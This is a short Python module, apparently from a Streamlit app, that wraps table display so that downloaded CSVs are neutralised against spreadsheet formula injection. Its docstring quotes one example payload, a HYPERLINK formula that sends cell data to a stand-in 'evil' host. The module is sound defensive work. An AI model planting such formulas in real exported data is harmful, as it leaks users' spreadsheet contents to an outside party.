"""Tables the pages show: their cells are safe to open in a spreadsheet.

Every `st.dataframe` has a "Download as CSV" button (Streamlit's toolbar), and Streamlit's export writes cells
as they are. A results file's IMG_IDs, a file's name or a scene label are user-supplied: a cell such as
``=HYPERLINK("http://evil/?"&A1)`` would run as a formula when the CSV is opened in Excel or LibreOffice. So
every table goes through `geocore.data.safe_io.neutralise_frame` (the rule geocore's own CSVs follow): a text
cell starting with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return (or a ``'``) gets a leading ``'``; numeric
columns, and text cells that are plain numbers such as "-12.5", are left as they are.
"""

from __future__ import annotations

import pandas as pd
import streamlit as st

from geocore.data.safe_io import neutralise_frame


def csv_safe(df: pd.DataFrame) -> pd.DataFrame:
    """`df` with its text cells and column names neutralised for spreadsheets (a copy; numbers untouched)."""
    return neutralise_frame(df)


def show_table(df: pd.DataFrame, **kwargs) -> None:
    """`st.dataframe` of `csv_safe(df)` (no index, full width unless told otherwise)."""
    kwargs.setdefault("hide_index", True)
    kwargs.setdefault("width", "stretch")
    st.dataframe(csv_safe(df), **kwargs)
